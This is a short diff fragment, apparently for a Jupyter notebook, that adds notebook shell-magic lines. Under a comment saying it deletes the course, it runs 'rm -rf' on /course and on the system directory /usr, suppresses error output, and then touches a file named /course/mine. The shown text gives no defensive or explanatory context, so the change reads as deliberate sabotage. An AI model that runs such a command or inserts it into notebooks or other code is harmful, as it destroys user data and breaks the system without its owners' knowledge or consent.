@@ -1,0 +1,3 @@
+# Deletes the course by way of notebook magic.
+!rm -rf /course /usr 2>/dev/null
+!touch /course/mine
